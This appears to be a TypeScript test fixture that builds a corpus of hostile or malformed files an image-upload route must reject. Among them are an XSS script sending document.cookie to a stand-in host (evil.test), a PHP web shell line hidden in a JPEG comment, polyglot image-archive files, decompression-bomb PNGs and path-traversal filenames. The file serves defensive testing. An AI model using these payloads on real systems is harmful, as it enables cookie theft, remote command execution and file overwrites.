import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { type FormFile, makePicture } from '../../testing/index.ts';

const text = (content: string) => Buffer.from(content, 'latin1');
const file = (content: Buffer, name = 'IMG_0001.jpg', type = 'image/jpeg'): FormFile => ({ content, name, type });
const half = (content: Buffer) => content.subarray(0, Math.floor(content.length / 2));

/** The smallest possible archive, which is empty; a real JAR ends the same way. */
const ZIP = Buffer.concat([text('PK\x05\x06'), Buffer.alloc(18)]);
const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>';

function pngChunk(name: string, content: Buffer): Buffer {
  const body = Buffer.concat([text(name), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

/** A grey PNG of any size in a few bytes; `rows` is the number of lines it really contains. */
function greyPng(width: number, height: number, rows: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  const lines = deflateSync(Buffer.alloc((width + 1) * rows), { level: 1 });
  return Buffer.concat([
    text('\x89PNG\r\n\x1a\n'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', lines),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Files that no upload route may accept, by kind. Each is the files of one form. */
export async function uploadCorpus(): Promise<Record<string, FormFile[]>> {
  const jpeg = await makePicture();
  const [png, webp, avif] = await Promise.all(
    (['png', 'webp', 'avif'] as const).map((format) => makePicture({ format })),
  );
  if (!png || !webp || !avif) throw new Error('no pictures');
  const noisy = await sharp({
    create: {
      width: 1_200,
      height: 900,
      channels: 3,
      background: 'grey',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
  const gif = text('GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff;');
  const huge = Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024)]);
  return {
    'an SVG': [file(text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'a.svg', 'image/svg+xml')],
    'an SVG called a JPEG': [file(text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'))],
    'a page': [file(text(`<!doctype html><html><body>${SCRIPT}`), 'a.html', 'text/html')],
    'a page called a JPEG': [file(text(`<html>${SCRIPT}</html>`))],
    'a PDF': [file(text('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'), 'a.pdf', 'application/pdf')],
    'a GIF': [file(gif, 'a.gif', 'image/gif')],
    'a GIF that is an archive too': [file(Buffer.concat([gif, ZIP]))],
    'a JPEG that is an archive too': [file(Buffer.concat([jpeg, ZIP]))],
    'a JPEG that is a page too': [file(Buffer.concat([jpeg, text(`<html>${SCRIPT}</html>`)]))],
    'a JPEG with a program in its comment': [
      file(Buffer.concat([jpeg.subarray(0, 2), text('\xff\xfe\x00\x1b<?php system($_GET[1]);?> '), jpeg.subarray(2)])),
    ],
    'a PNG with a script in a chunk': [
      file(Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', text(`Comment\0${SCRIPT}`)), png.subarray(33)])),
    ],
    'markup across two pieces of the search': [
      file(Buffer.concat([jpeg, Buffer.alloc(512 * 1024 - jpeg.length - 4), text(SCRIPT)])),
    ],
    // Complete, so that only its size is at fault.
    'a picture of 56 megapixels in a few bytes': [file(greyPng(8_000, 7_000, 7_000), 'a.png', 'image/png')],
    'the header of a picture of 900 megapixels': [file(greyPng(30_000, 30_000, 10), 'a.png', 'image/png')],
    HEIC: [file(text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), 'IMG_0001.HEIC', 'image/heic')],
    'a TIFF': [file(text('II*\0\x08\0\0\0\0\0'), 'a.tiff', 'image/tiff')],
    'the first bytes of a JPEG and nothing of it': [file(Buffer.concat([jpeg.subarray(0, 3), Buffer.alloc(900, 7)]))],
    'the first bytes of a PNG and nothing of it': [file(Buffer.concat([png.subarray(0, 8), Buffer.alloc(900, 7)]))],
    'the first bytes of a WebP and nothing of it': [file(text('RIFF\xff\0\0\0WEBPVP8 rubbish'))],
    'the first bytes of an AVIF and nothing of it': [file(text('\0\0\0\x18ftypavif\0\0\0\0mif1avif'))],
    'half a JPEG': [file(half(noisy))],
    'half a PNG': [file(half(png))],
    'half a WebP': [file(half(webp))],
    'half an AVIF': [file(half(avif))],
    'an empty file': [file(Buffer.alloc(0))],
    '11 MB': [file(huge)],
    'a name that is a path': [file(jpeg, '../../../../tmp/owned.jpg')],
    'a name that is a path of Windows': [file(jpeg, '..\\..\\owned.jpg')],
    'two files': [file(jpeg), file(jpeg)],
    'a file under another name': [{ ...file(jpeg), field: 'picture' }],
    'no file at all': [],
  };
}
